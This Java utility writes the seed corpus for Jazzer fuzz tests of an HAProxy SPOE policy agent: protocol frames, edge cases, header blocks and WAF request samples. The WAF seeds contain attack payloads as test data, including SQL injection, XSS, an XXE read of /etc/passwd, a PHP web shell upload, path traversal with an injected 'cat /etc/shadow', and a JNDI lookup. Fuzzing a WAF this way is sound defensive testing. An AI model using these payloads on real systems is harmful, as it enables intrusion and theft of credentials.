package io.spoepolicy.fuzz;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.InetAddress;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

import io.netty.buffer.ByteBuf;
import io.netty.buffer.ByteBufAllocator;

import io.spoepolicy.protocol.Action;
import io.spoepolicy.protocol.DataType;
import io.spoepolicy.protocol.FrameFlags;
import io.spoepolicy.protocol.OutboundFrame;
import io.spoepolicy.protocol.SpopFrameEncoder;
import io.spoepolicy.protocol.SpopMessage;
import io.spoepolicy.protocol.TypedValue;
import io.spoepolicy.protocol.VarScope;
import io.spoepolicy.testkit.HaproxyFrames;
import io.spoepolicy.testkit.MessageBuilder;

/**
 * Writes the committed seed corpus of the fuzz tests: real frames as HAProxy sends them, edge
 * cases of the protocol (fragments, aborts, unknown types, extreme ids and lengths) and header
 * blocks. Jazzer replays these in every test run and starts fuzzing from them.
 *
 * <p>Run from the repository root after changing the protocol or the fuzz targets' input layout:
 * {@code ./mvnw -q test-compile exec:java} is not configured, so use
 * {@code java -cp target/test-classes:target/classes:$(cat cp.txt) io.spoepolicy.fuzz.SeedCorpus}
 * with the test classpath from {@code ./mvnw dependency:build-classpath -Dmdep.outputFile=cp.txt}.
 */
public final class SeedCorpus {

    private static final Path ROOT = Path.of("src/test/resources/io/spoepolicy/fuzz");

    private SeedCorpus() {
    }

    public static void main(String[] args) throws IOException {
        Map<String, byte[]> frames = frames();
        Map<String, byte[]> decoder = new LinkedHashMap<>();
        Map<String, byte[]> session = new LinkedHashMap<>();
        frames.forEach((name, stream) -> {
            decoder.put(name, prefixed(0x00, stream));
            decoder.put(name + "-bytewise", prefixed(0x40, stream));
            session.put(name, prefixed(0x00, stream));
        });
        decoder.put("fragments-small-limits", prefixed(0x1e, frames.get("fragmented-notify")));
        decoder.put("fragments-refused", prefixed(0x01, frames.get("fragmented-notify")));
        session.put("hello-then-notify", prefixed(0x01, concat(HaproxyFrames.hello(16380, "pipelining", "e"),
                frames.get("notify-check-request"))));
        session.put("failing-policy", prefixed(0x04, frames.get("pipelined-notifies")));
        session.put("split-reads", prefixed(0x02, frames.get("fragmented-notify")));
        write("FrameDecoderFuzzTestInputs/decode", decoder);
        write("SessionFuzzTestInputs/session", session);
        write("TypedDataFuzzTestInputs/parse", payloads());
        write("RequestHeadersFuzzTestInputs/parse", headers());
        write("WafFuzzTestInputs/evaluate", wafRequests());
    }

    static Map<String, byte[]> frames() throws IOException {
        SpopMessage check = MessageBuilder.checkRequest().ip("192.0.2.10").method("GET").path("/admin")
                .query("a=1&b=2").header("host", "example.com").header("user-agent", "curl/8").build();
        SpopMessage large = MessageBuilder.checkRequest().ip("2001:db8::1").path("/upload")
                .header("x-big", "v".repeat(1500)).body("x".repeat(600)).build();
        SpopMessage typed = MessageBuilder.message("typed")
                .argument("", TypedValue.NULL)
                .argument("t", TypedValue.of(true))
                .argument("i32", new TypedValue.IntValue(DataType.INT32, -5))
                .argument("u32", TypedValue.uint32(4_294_967_295L))
                .argument("i64", TypedValue.of(Long.MIN_VALUE))
                .argument("u64", new TypedValue.IntValue(DataType.UINT64, -1))
                .argument("ip4", TypedValue.of(InetAddress.getByName("10.0.0.1")))
                .argument("bin", TypedValue.binary(new byte[] {0, 1, 2, (byte) 0xff}))
                .argument("empty", TypedValue.of(""))
                .build();
        Map<String, byte[]> frames = new LinkedHashMap<>();
        frames.put("hello", HaproxyFrames.hello(16380, "pipelining,fragmentation", "engine-1"));
        frames.put("healthcheck-hello", HaproxyFrames.healthcheckHello());
        frames.put("notify-check-request", HaproxyFrames.notify(1, 1, check));
        frames.put("notify-typed-values", HaproxyFrames.notify(240, 2288, typed));
        frames.put("notify-zero-messages", HaproxyFrames.notify(0, 1, List.of()));
        frames.put("notify-two-messages", HaproxyFrames.notify(3, 1, List.of(check, typed)));
        frames.put("notify-huge-ids", HaproxyFrames.notify(-1L, Long.MAX_VALUE, check));
        frames.put("fragmented-notify", concat(HaproxyFrames.fragmentedNotify(7, 3, List.of(large), 500)));
        List<byte[]> pieces = HaproxyFrames.fragmentedNotify(9, 1, List.of(large), 500);
        frames.put("aborted-fragments", concat(pieces.get(0), pieces.get(1), HaproxyFrames.abortFragment(9, 1),
                HaproxyFrames.notify(11, 1, check)));
        frames.put("pipelined-notifies", concat(HaproxyFrames.notify(1, 1, check), HaproxyFrames.notify(2, 1, check),
                HaproxyFrames.notify(3, 1, typed), HaproxyFrames.notify(4, 1, check)));
        frames.put("haproxy-disconnect", HaproxyFrames.disconnect(2, "a timeout occurred"));
        frames.put("unknown-type", HaproxyFrames.frame(42, FrameFlags.FIN, 0, 0, new byte[] {1, 2, 3}));
        frames.put("agent-frame-type", HaproxyFrames.frame(103, FrameFlags.FIN, 1, 1, new byte[0]));
        frames.put("length-too-small", new byte[] {0, 0, 0, 6, 3, 0, 0, 0, 1, 1});
        frames.put("length-too-large", new byte[] {0x7f, (byte) 0xff, (byte) 0xff, (byte) 0xff, 3});
        frames.put("truncated-varint", HaproxyFrames.frame(3, FrameFlags.FIN, 0, 0, new byte[] {(byte) 0xf0}));
        frames.put("http-probe", "GET / HTTP/1.1\r\nHost: agent\r\n\r\n".getBytes());
        frames.put("tls-client-hello", new byte[] {0x16, 0x03, 0x01, 0x00, (byte) 0xa5, 0x01, 0x00, 0x00, (byte) 0xa1});
        return frames;
    }

    static Map<String, byte[]> payloads() throws IOException {
        SpopMessage check = MessageBuilder.checkRequest().ip("192.0.2.10").path("/").header("host", "h").build();
        byte[] hello = HaproxyFrames.hello(16380, "pipelining", "engine");
        byte[] disconnect = HaproxyFrames.disconnect(5, "version value not found");
        ByteBuf ack = new SpopFrameEncoder().encode(new OutboundFrame.Ack(1, 1, List.of(
                Action.setVar(VarScope.TRANSACTION, "action", TypedValue.of("deny")),
                Action.setVar(VarScope.TRANSACTION, "status", TypedValue.of(403)),
                Action.unsetVar(VarScope.SESSION, "old"))), ByteBufAllocator.DEFAULT);
        byte[] ackBytes = new byte[ack.readableBytes()];
        ack.readBytes(ackBytes);
        ack.release();
        Map<String, byte[]> seeds = new LinkedHashMap<>();
        // Frame header: 4 length + 1 type + 4 flags + 1 + 1 id bytes for these small ids.
        seeds.put("kv-hello", prefixed(0, slice(hello, 11)));
        seeds.put("kv-disconnect", prefixed(0, slice(disconnect, 11)));
        seeds.put("messages-check", prefixed(1, HaproxyFrames.messagesPayload(List.of(check))));
        seeds.put("messages-few-allowed", prefixed(2, HaproxyFrames.messagesPayload(List.of(check, check, check, check))));
        seeds.put("actions-ack", prefixed(3, slice(ackBytes, 11)));
        return seeds;
    }

    static Map<String, byte[]> headers() {
        Map<String, byte[]> seeds = new LinkedHashMap<>();
        seeds.put("typical", MessageBuilder.headersBinary(List.of(new String[] {"host", "example.com"},
                new String[] {"user-agent", "curl/8.5"}, new String[] {"accept", "*/*"},
                new String[] {"authorization", "Bearer eyJhbGciOiJIUzI1NiJ9.e30.sig"})));
        seeds.put("repeated-and-empty", MessageBuilder.headersBinary(List.of(new String[] {"cookie", "a=1"},
                new String[] {"cookie", "b=2"}, new String[] {"x-empty", ""})));
        seeds.put("latin1-and-controls", MessageBuilder.headersBinary(java.util.Collections.singletonList(
                new String[] {"X-Caps", "caf\u00e9\r\n\u0000"})));
        seeds.put("long-value", MessageBuilder.headersBinary(java.util.Collections.singletonList(new String[] {"x-long", "a".repeat(300)})));
        seeds.put("missing-terminator", new byte[] {4, 'h', 'o', 's', 't', 1, 'x'});
        return seeds;
    }

    /** Option byte (content type), then query, cookie and body separated by 0x00. */
    static Map<String, byte[]> wafRequests() {
        Map<String, byte[]> seeds = new LinkedHashMap<>();
        seeds.put("urlencoded-sqli", waf(0, "id=1%20OR%201%3D1&x=%3Cscript%3E", "session=abc; theme=dark",
                "user=admin'--&pass=x&list[]=1&list[]=2"));
        seeds.put("json-nested", waf(1, "", "", "{\"a\":{\"b\":[1,2,{\"c\":\"<img src=x onerror=alert(1)>\"}]},\"d\":null,"
                + "\"e\":\"\\u0027 or 1=1\"}"));
        seeds.put("xml-with-dtd", waf(2, "", "", "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM "
                + "\"file:///etc/passwd\">]><r a=\"1\"><c>&x;</c><![CDATA[<b>]]></r>"));
        seeds.put("multipart-file", waf(3, "", "", "--XyZ\r\nContent-Disposition: form-data; name=\"f\"; "
                + "filename=\"../shell.php\"\r\nContent-Type: text/plain\r\n\r\n<?php system($_GET[c]); ?>\r\n"
                + "--XyZ\r\nContent-Disposition: form-data; name=\"n\"\r\n\r\nvalue\r\n--XyZ--\r\n"));
        seeds.put("plain-traversal", waf(4, "file=..%252f..%252fetc%252fpasswd&cmd=;cat%20/etc/shadow", "", "hello"));
        seeds.put("no-content-type", waf(5, "q=%24%7Bjndi:ldap://x/a%7D", "a=%00b", "\u0000\u00ff"));
        return seeds;
    }

    private static byte[] waf(int contentType, String query, String cookie, String body) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.write(contentType);
        out.writeBytes(query.getBytes(java.nio.charset.StandardCharsets.ISO_8859_1));
        out.write(0);
        out.writeBytes(cookie.getBytes(java.nio.charset.StandardCharsets.ISO_8859_1));
        out.write(0);
        out.writeBytes(body.getBytes(java.nio.charset.StandardCharsets.ISO_8859_1));
        return out.toByteArray();
    }

    private static void write(String directory, Map<String, byte[]> seeds) throws IOException {
        Path target = ROOT.resolve(directory);
        Files.createDirectories(target);
        for (Map.Entry<String, byte[]> seed : seeds.entrySet()) {
            Files.write(target.resolve(seed.getKey()), seed.getValue());
        }
    }

    private static byte[] prefixed(int option, byte[] stream) {
        byte[] out = new byte[stream.length + 1];
        out[0] = (byte) option;
        System.arraycopy(stream, 0, out, 1, stream.length);
        return out;
    }

    private static byte[] slice(byte[] frame, int from) {
        return java.util.Arrays.copyOfRange(frame, from, frame.length);
    }

    private static byte[] concat(byte[]... parts) {
        return concat(List.of(parts));
    }

    private static byte[] concat(List<byte[]> parts) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        parts.forEach(out::writeBytes);
        return out.toByteArray();
    }
}
